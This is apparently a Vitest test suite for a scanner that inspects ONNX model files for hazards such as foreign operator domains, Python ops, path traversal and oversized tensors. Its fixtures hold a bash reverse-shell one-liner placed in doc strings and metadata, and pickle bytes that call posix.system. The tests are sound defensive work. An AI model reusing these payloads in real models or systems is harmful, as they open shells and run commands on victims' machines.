import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { defaultPolicy } from "../../../src/config/load.js";
import type { FileReport } from "../../../src/engine/result.js";
import { scanArtifact } from "../../../src/engine/scan-artifact.js";
import { Budget } from "../../../src/io/budget.js";
import { BufferSource } from "../../../src/io/byte-source.js";
import {
  graphAttribute,
  integerAttribute,
  type OnnxModelParts,
  onnxFunction,
  onnxGraph,
  onnxModel,
  onnxNode,
  property,
  tensor,
  tensorAttribute,
  textAttribute,
} from "../../builders/onnx.js";
import { announced, field, integer, message } from "../../builders/protobuf.js";
import { type ScanOptions, scanBytes, told } from "../../builders/scan.js";

const scan = (parts: OnnxModelParts, options: ScanOptions = {}): Promise<FileReport> =>
  scanBytes("model.onnx", onnxModel(parts), options);

async function findings(parts: OnnxModelParts): Promise<string[]> {
  return told(await scan(parts));
}

function fixture(name: string): Promise<FileReport> {
  return scanBytes(name, readFileSync(new URL(`../../../fixtures/onnx/${name}`, import.meta.url)));
}

test.each([
  ["bad.external-data-in-subgraph.onnx", ["high onnx/external-data-path"]],
  ["bad.python-op-in-function.onnx", ["critical onnx/python-op"]],
  ["ok.if-and-function.onnx", []],
])("%s, written by the onnx package, is judged %j", async (name, expected) => {
  const report = await fixture(name);
  expect(told(report)).toEqual(expected);
  expect(report.state).toBe("scanned");
});

const custom = onnxNode("RunShell", { domain: "com.evil" });
const CUSTOM = ["medium onnx/custom-domain"];

test.each([
  ["the graph", { nodes: [custom] }],
  [
    "a subgraph",
    { nodes: [onnxNode("If", { attributes: { then_branch: graphAttribute(onnxGraph({ nodes: [custom] })) } })] },
  ],
  [
    "a list of subgraphs",
    { nodes: [onnxNode("Case", { attributes: { branches: field(11, onnxGraph({ nodes: [custom] })) } })] },
  ],
  ["a function", { functions: [onnxFunction("F", "local", custom)] }],
  [
    "a subgraph of a function",
    {
      functions: [
        onnxFunction(
          "F",
          "local",
          onnxNode("Loop", { attributes: { body: graphAttribute(onnxGraph({ nodes: [custom] })) } }),
        ),
      ],
    },
  ],
  ["a training graph", { modelFields: [field(20, field(2, onnxGraph({ nodes: [custom] })))] }],
  ["an initialisation graph", { modelFields: [field(20, field(1, onnxGraph({ nodes: [custom] })))] }],
  ["a second graph field", { modelFields: [field(7, onnxGraph({ nodes: [custom] }))] }],
])("an operator of a foreign domain is found in %s", async (_, parts) => {
  expect(await findings(parts)).toEqual(CUSTOM);
});

test.each(["", "ai.onnx", "ai.onnx.ml", "com.microsoft", "org.pytorch.aten", "pkg.onnxscript.torch_lib"])(
  "the domain %j is ordinary",
  async (domain) => expect(await findings({ nodes: [onnxNode("Gelu", { domain })] })).toEqual([]),
);

test("a domain whose operators the model defines itself is no foreign one", async () => {
  const nodes = [onnxNode("Twice", { domain: "local" })];
  expect(await findings({ nodes, functions: [onnxFunction("Twice", "local", onnxNode("Add"))] })).toEqual([]);
  expect(await findings({ nodes, functions: [onnxFunction("Thrice", "local", onnxNode("Add"))] })).toEqual(CUSTOM);
});

test("a function in a standard domain takes an operator's place", async () => {
  expect(await findings({ functions: [onnxFunction("Relu", "", onnxNode("Neg"))] })).toEqual([
    "medium onnx/shadowed-op",
  ]);
  expect(await findings({ functions: [onnxFunction("Relu", "ai.onnx", onnxNode("Neg"))] })).toEqual([
    "medium onnx/shadowed-op",
  ]);
  expect(await findings({ functions: [onnxFunction("Relu", "mine", onnxNode("Neg"))] })).toEqual([]);
});

test.each(["PyOp", "PythonOp", "PyCustomOp"])("%s calls Python, in any domain", async (op) => {
  expect(await findings({ nodes: [onnxNode(op, { domain: "ai.onnx.contrib" })] })).toEqual(["critical onnx/python-op"]);
  expect(await findings({ nodes: [onnxNode(op)] })).toEqual(["critical onnx/python-op"]);
});

test("the policy's rows decide on operators and domains", async () => {
  const policy = { onnx_rules: { Relu: "high", "com.evil": "low", "com.evil:Worse": "critical" } as const };
  const nodes = [onnxNode("Relu"), custom, onnxNode("Worse", { domain: "com.evil" })];
  expect(told(await scan({ nodes }, { policy }))).toEqual([
    "critical onnx/listed-op",
    "high onnx/listed-op",
    "low onnx/custom-domain",
  ]);
});

const context = (path: string, embed?: number) =>
  onnxNode("EPContext", {
    domain: "com.microsoft",
    attributes: {
      ep_cache_context: textAttribute(path),
      ...(embed === undefined ? {} : { embed_mode: integerAttribute(embed) }),
    },
  });

test("a compiled context comes from the model's folder, or not", async () => {
  expect(await findings({ nodes: [context("/etc/passwd", 0)] })).toEqual(["high onnx/context-path"]);
  expect(await findings({ nodes: [context("../x.bin", 0)] })).toEqual(["high onnx/context-path"]);
  expect(await findings({ nodes: [context("qnn.bin", 0)] })).toEqual(["low onnx/compiled-context"]);
  expect(await findings({ nodes: [context("/begins like a path", 1)] })).toEqual(["low onnx/compiled-context"]);
  expect(await findings({ nodes: [context("/begins like a path")] })).toEqual(["low onnx/compiled-context"]);
});

test.each([
  ["a product beyond 64 bits", { dims: [2n ** 40n, 2n ** 40n], raw: new Uint8Array(8) }],
  ["a negative dimension", { dims: [-1], raw: new Uint8Array(8) }],
  ["more data than announced", { dims: [1], raw: new Uint8Array(8) }],
  ["less data than announced", { dims: [3], raw: new Uint8Array(8) }],
  ["far more elements than typed data", { dims: [1_000_000], more: [field(4, new Uint8Array(40))] }],
])("a tensor with %s does not fit", async (_, parts) => {
  expect(await findings({ tensors: [tensor(parts)] })).toEqual(["medium onnx/tensor-size"]);
});

test.each([
  ["raw data", { dims: [2], raw: new Uint8Array(8) }],
  ["packed typed data", { dims: [10], more: [field(4, new Uint8Array(40))] }],
  ["unpacked typed data", { dims: [3], type: 7, more: [integer(7, 1), integer(7, 2), integer(7, 3)] }],
  ["strings", { dims: [2], type: 8, more: [field(6, "a"), field(6, "")] }],
  ["half bytes", { dims: [3], type: 22, raw: new Uint8Array(2) }],
  ["no elements", { dims: [0, 5], raw: new Uint8Array(0) }],
  ["no data at all, as models without weights have them", { dims: [1000] }],
])("a tensor of %s fits", async (_, parts) => {
  expect(await findings({ tensors: [tensor(parts)] })).toEqual([]);
});

test("the tensor of a constant inside a function is looked at as well", async () => {
  const constant = onnxNode("Constant", { attributes: { value: tensorAttribute(tensor({ dims: [-1] })) } });
  expect(await findings({ functions: [onnxFunction("F", "local", constant)] })).toEqual(["medium onnx/tensor-size"]);
});

test("sparse tensors are looked at, values and indices", async () => {
  const sparse = (values: Uint8Array, indices: Uint8Array) => field(15, field(1, values), field(2, indices));
  const good = tensor({ raw: new Uint8Array(8) });
  expect(await findings({ more: [sparse(good, good)] })).toEqual([]);
  expect(await findings({ more: [sparse(good, tensor({ dims: [-1] }))] })).toEqual(["medium onnx/tensor-size"]);
  const attribute = onnxNode("Constant", { attributes: { sparse_value: field(22, field(1, tensor({ dims: [-1] }))) } });
  expect(await findings({ nodes: [attribute] })).toEqual(["medium onnx/tensor-size"]);
});

test("weights that begin with a pickle or a program are told", async () => {
  const pickle = Buffer.from("\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.", "latin1");
  const hidden = tensor({ dims: [pickle.length], type: 3, raw: pickle });
  expect(await findings({ tensors: [hidden] })).toEqual(["medium weights/embedded-content"]);
  const numbers = tensor({ dims: [pickle.length], type: 3, raw: new Uint8Array(pickle.length).fill(0x80) });
  expect(await findings({ tensors: [numbers] })).toEqual([]);
});

const SHELL = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1";

test.each([
  ["the model's doc string", { modelFields: [field(6, SHELL)] }],
  ["the model's metadata", { properties: { note: SHELL } }],
  ["the graph's doc string", { more: [field(10, SHELL)] }],
  ["the graph's metadata", { more: [field(16, property("note", SHELL))] }],
  ["a node's doc string", { nodes: [onnxNode("Relu", { more: [field(6, SHELL)] })] }],
  ["a node's metadata", { nodes: [onnxNode("Relu", { more: [field(9, property("k", SHELL))] })] }],
  ["a tensor's doc string", { tensors: [tensor({ more: [field(12, SHELL)] })] }],
  ["an input's doc string", { more: [field(11, field(1, "x"), field(3, SHELL))] }],
  ["a function's doc string", { functions: [message(field(1, "F"), field(8, SHELL), field(10, "local"))] }],
])("a command in %s is told", async (_, parts) => {
  expect(await findings(parts)).toEqual(["medium config/command-text"]);
});

test("Python is told in descriptions, and is ordinary in the stack traces of nodes", async () => {
  const line = "File train.py, line 3: os.system('ls')";
  expect(await findings({ properties: { on_load: line } })).toEqual(["medium config/command-text"]);
  expect(
    await findings({ nodes: [onnxNode("Relu", { more: [field(9, property("pkg.torch.onnx.stack_trace", line))] })] }),
  ).toEqual([]);
});

test("ordinary metadata is silent", async () => {
  const properties = {
    author: "Ultralytics",
    license: "AGPL-3.0 https://ultralytics.com/license",
    names: "{0: 'person'}",
    stride: "32",
  };
  expect(await findings({ properties, modelFields: [field(6, "exported by a tool, see https://onnx.ai")] })).toEqual(
    [],
  );
});

test("a program encoded into a text is told, an encoded picture is not", async () => {
  const header = Buffer.alloc(200);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  header.set([2, 0, 62, 0], 16);
  expect(await findings({ properties: { logo: header.toString("base64") } })).toEqual(["medium onnx/encoded-program"]);
  const picture = Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(200, 7)]);
  expect(await findings({ properties: { logo: picture.toString("base64") } })).toEqual([]);
});

test("graphs nested deeper than parsers go are told, and what is inside them", async () => {
  const nest = (depth: number) => {
    let graph = onnxGraph({ nodes: [custom] });
    for (let i = 0; i < depth; i++)
      graph = onnxGraph({ nodes: [onnxNode("Loop", { attributes: { body: graphAttribute(graph) } })] });
    return { modelFields: [field(7, graph)] };
  };
  expect(await findings(nest(60))).toEqual(["medium onnx/deep-nesting", "medium onnx/custom-domain"]);
  expect(await findings(nest(10))).toEqual(CUSTOM);
});

test("a forbidden name of the graph is told", async () => {
  const policy = { blacklist: { patterns: ["mai*"] } };
  expect(told(await scan({}, { policy }))).toEqual(["high policy/forbidden-name"]);
  expect(told(await scan({}, { policy: { blacklist: { patterns: ["other"] } } }))).toEqual([]);
});

test("bytes behind the model are scanned as what they are", async () => {
  const pickle = Buffer.from(
    "\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
    "latin1",
  );
  const report = await scanBytes("model.onnx", message(onnxModel(), pickle));
  expect(report.findings[0]).toMatchObject({ severity: "critical", rule: "pickle/unsafe-call" });
});

test("a truncated model is told, with what stands before the end", async () => {
  const bytes = onnxModel({ nodes: [custom, ...Array<Uint8Array>(40).fill(onnxNode("Relu"))] });
  const report = await scanBytes("model.onnx", bytes.subarray(0, 200));
  expect(told(report)).toEqual(["medium analysis/malformed", "medium onnx/custom-domain"]);
  expect(report.state).toBe("partial");
});

test("every prefix of a model ends without a failure, and is never clean", async () => {
  const bytes = onnxModel({ nodes: [custom], tensors: [tensor({ dims: [-1] })], properties: { a: "b" } });
  const whole = new Set([2, 11]);
  for (let length = 1; length < bytes.length; length++) {
    const report = await scanBytes("model.onnx", bytes.subarray(0, length));
    expect(report.state).not.toBe("failed");
    if (!whole.has(length)) expect(report.findings.length, `prefix of ${length}`).toBeGreaterThan(0);
  }
});

test("an ONNX file is examined by its name whatever it begins with", async () => {
  const bytes = message(field(77, "x"), onnxModel({ nodes: [custom] }));
  expect(told(await scanBytes("model.onnx", bytes))).toContain("medium onnx/custom-domain");
});

test("weights are stepped over", async () => {
  const weights = 50_000_000;
  const head = message(integer(1, weights / 4), integer(2, 1), field(8, "w"), announced(9, weights));
  const graph = message(announced(5, head.length + weights), head);
  const start = message(integer(1, 8), field(2, "example"), announced(7, graph.length + weights), graph);
  const bytes = new Uint8Array(start.length + weights);
  bytes.set(start);
  const source = new BufferSource(bytes);
  let read = 0;
  const policy = await defaultPolicy();
  const counting = {
    size: source.size,
    read: async (offset: number, length: number) => {
      const found = source.readSync(offset, length);
      read += found.length;
      return found;
    },
  };
  const artifact = { path: "m.onnx", name: "m.onnx", source: counting, tree: async () => undefined };
  const report = await scanArtifact(artifact, { policy, budget: new Budget(policy.limits) });
  expect(told(report)).toEqual([]);
  expect(read).toBeLessThan(200_000);
});
